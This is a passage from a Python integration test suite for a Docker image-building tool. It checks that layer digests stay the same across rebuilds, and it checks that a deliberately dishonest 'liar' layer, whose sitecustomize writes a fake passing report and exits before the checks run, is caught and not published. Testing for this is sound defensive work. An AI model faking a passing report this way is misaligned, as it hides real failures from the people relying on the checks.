                      "--report", str(staged.folder / name), *args)
        return run, {n["layer"]: n for n in report(staged.folder / name)["nodes"]}

    first, nodes = build("persistent-1")
    assert first.code == 0, first.text[-3000:]
    published = {layer: n["digest"] for layer, n in nodes.items()}
    rebuilt, nodes = build("persistent-2", "--no-cache", "--only", f"{nodes['mid']['entry']}/mid")
    assert rebuilt.code == 0, rebuilt.text[-3000:]
    assert nodes["mid"]["build"] == "built" and nodes["mid"]["digest"] == published["mid"]
    assert "is not pushed: the key's tags keep naming" in rebuilt.out, rebuilt.out[-3000:]
    for name in ("persistent-3", "persistent-4"):
        again, nodes = build(name)
        assert again.code == 0, again.text[-3000:]
        assert {layer: n["digest"] for layer, n in nodes.items()} == published
        of_keys = [str(i["Id"]) for n in nodes.values() for i in engine.api.images(
            filters={"label": f"io.imagebuilder.key={n['key']}"}, all=True)]
        for image in reversed(of_keys):  # then the chain's images are gone from this engine (top first)
            subprocess.run(["docker", "rmi", "-f", image], capture_output=True, timeout=120)
    assert "pulling" not in again.out  # what the registry names is reused without a pull: the pass is by digest


def test_an_image_that_writes_its_own_passing_report_is_not_published(
        registry: str, wheelhouse: Path, staged: Staged, tmp_path: Path, cli: Callable[..., CliRun]) -> None:
    """A layer whose sitecustomize writes a passing report and exits before the suite runs (the gate's base,
    already built, under it): the host finds the checks it expects missing."""
    repository = f"itest-liar-{uuid.uuid4().hex[:8]}"
    layers = staged.folder / "layers"
    (layers / "liar").mkdir()
    (layers / "liar" / "sitecustomize.py").write_text(LIAR)
    (layers / "liar" / "Dockerfile.j2").write_text("FROM {{ parent_image }}\nCOPY sitecustomize.py /opt/liar/\n"
                                                    "ENV PYTHONPATH=/opt/liar\n")
    matrix = cpu_matrix(tmp_path, repository, wheelhouse, layers="[base, liar]", extra=f"layers_path: [{layers}]\n")
    run = cli("build", "--matrix", str(matrix), "--report", str(tmp_path / "r"))
    assert run.code == 1, run.text[-3000:]
    liar = {n["layer"]: n for n in report(tmp_path / "r")["nodes"]}["liar"]
    assert liar["smoke"] == "failed" and "the report lacks" in liar["error"] and "expected check(s)" in liar["error"]
    assert liar["smoke_report"]["passed"] is True  # what the image said of itself
    assert registry_tags(registry, f"itest/{repository}") == []
